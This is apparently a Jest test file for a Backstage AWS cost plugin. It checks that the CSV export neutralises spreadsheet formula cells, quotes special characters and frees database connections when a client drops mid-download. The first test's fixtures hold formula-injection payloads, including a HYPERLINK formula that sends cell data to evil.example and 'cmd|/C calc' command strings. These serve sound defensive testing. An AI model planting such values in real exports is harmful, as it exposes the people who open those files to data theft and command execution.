import { mockServices, startTestBackend } from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import http, { Server } from 'node:http';
import { AddressInfo } from 'node:net';
import request from 'supertest';
import { costDatabases, dailyRow } from './__testUtils__/store';
import {
  as,
  ENTITIES,
  MANAGER,
  permissionsFactory,
} from './__testUtils__/testBackend';
import { awsCostPlugin } from './plugin';
import { CostStore } from './store/CostStore';

// The CSV export (GET /export.csv) against cells a contributor controls (AWS
// tag values, usage types, account names) and against a client that goes
// away mid-export. SQLite's knex pool holds one connection, so a connection
// the export keeps would block every later query; on PostgreSQL (when the
// suite provides one, scripts/test.d/20-cost.sh) the export streams through
// pg-query-stream and the pool must show no connection left in use.

jest.setTimeout(120_000);

const databases = costDatabases();

type DatabaseId = Parameters<typeof databases.init>[0];

async function start(databaseId: DatabaseId) {
  const knex = await databases.init(databaseId);
  const { server } = await startTestBackend({
    features: [
      awsCostPlugin,
      mockServices.rootConfig.factory({ data: { awsCost: {} } }),
      mockServices.database.factory({ knex }),
      mockServices.scheduler.factory({ skipTaskRunOnStartup: true }),
      permissionsFactory,
      catalogServiceMock.factory({ entities: ENTITIES }),
    ],
  });
  return { server: server as Server, knex, store: new CostStore(knex) };
}

/** Waits for `check` to hold, polling; false when it never did. */
async function eventually(check: () => boolean, ms = 10_000) {
  for (const until = Date.now() + ms; Date.now() < until; ) {
    if (check()) return true;
    await new Promise(r => setTimeout(r, 50));
  }
  return check();
}

describe.each(databases.eachSupportedId())(
  'aws-cost CSV export on %s',
  databaseId => {
    it('neutralises formula cells, keeps negative amounts as numbers, quotes CR', async () => {
      const { server, store } = await start(databaseId);
      await store.upsertDaily([
        dailyRow({
          usageDate: '2026-10-01',
          costMicros: -1_500_000n,
          billedMicros: -2_000_000n,
          accountName: '=HYPERLINK("https://evil.example/?"&A1,"click")',
          usageType: '+cmd|/C calc!A0',
          team: '-2+3',
          service: '@SUM(1+1)*cmd|/C calc!A0',
          environment: '\t=1+1',
          region: '\r=1+1',
          chargeType: 'Usage',
        }),
        dailyRow({
          usageDate: '2026-10-02',
          costMicros: 1_000_000n,
          accountName: 'line\rbreak',
          usageType: 'a "quoted", value',
          team: 'team-payments',
          service: 'billing-worker',
        }),
      ]);
      const res = await request(server)
        .get('/api/aws-cost/export.csv?from=2026-10-01&to=2026-10-31')
        .set(as(MANAGER));
      expect(res.status).toBe(200);
      const lines = res.text.split('\n');
      expect(lines[1]).toBe(
        [
          '2026-10-01',
          '111111111111',
          `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`,
          'Amazon Elastic Compute Cloud',
          `"'\r=1+1"`,
          "'+cmd|/C calc!A0",
          'Usage',
          "'-2+3",
          "'@SUM(1+1)*cmd|/C calc!A0",
          "'\t=1+1",
          'USD',
          '-1.500000',
          '-2.000000',
          'test',
        ].join(','),
      );
      expect(lines[2]).toBe(
        [
          '2026-10-02',
          '111111111111',
          '"line\rbreak"',
          'Amazon Elastic Compute Cloud',
          'eu-west-1',
          '"a ""quoted"", value"',
          'Usage',
          'team-payments',
          'billing-worker',
          '',
          'USD',
          '1.000000',
          '1.000000',
          'test',
        ].join(','),
      );
    });

    it('releases the database connection when the client goes away mid-export', async () => {
      const { server, knex, store } = await start(databaseId);
      const rows = [];
      for (let day = 1; day <= 30; day++) {
        for (let i = 0; i < 1500; i++) {
          rows.push(
            dailyRow({
              usageDate: `2026-10-${String(day).padStart(2, '0')}`,
              costMicros: BigInt(i),
              usageType: `BoxUsage:m5.${i}xlarge-${'x'.repeat(60)}`,
            }),
          );
        }
      }
      await store.upsertDaily(rows);
      const pool = (knex.client as any).pool;
      // SQLite's pool holds exactly one connection
      expect(databaseId !== 'SQLITE_3' || pool.max === 1).toBe(true);

      const { port } = server.address() as AddressInfo;
      const received = await new Promise<number>((resolve, reject) => {
        const req = http.get(
          {
            host: '127.0.0.1',
            port,
            path: '/api/aws-cost/export.csv?from=2026-10-01&to=2026-10-31',
            headers: as(MANAGER),
          },
          res => {
            expect(res.statusCode).toBe(200);
            res.once('data', (chunk: Buffer) => {
              // the client goes away after the first chunk
              req.destroy();
              resolve(chunk.length);
            });
          },
        );
        req.on('error', e => {
          if ((e as any).code !== 'ECONNRESET') reject(e);
        });
      });
      expect(received).toBeGreaterThan(0);

      // the export's connection goes back to the pool ...
      expect(await eventually(() => pool.numUsed() === 0)).toBe(true);
      // ... so a following query gets it (on SQLite, the pool's only one)
      let timer: NodeJS.Timeout | undefined;
      const held = new Promise((_, reject) => {
        timer = setTimeout(() => reject(new Error('pool still held')), 10_000);
      });
      await expect(Promise.race([store.countRows(), held])).resolves.toBe(
        rows.length,
      );
      clearTimeout(timer);
    });
  },
);
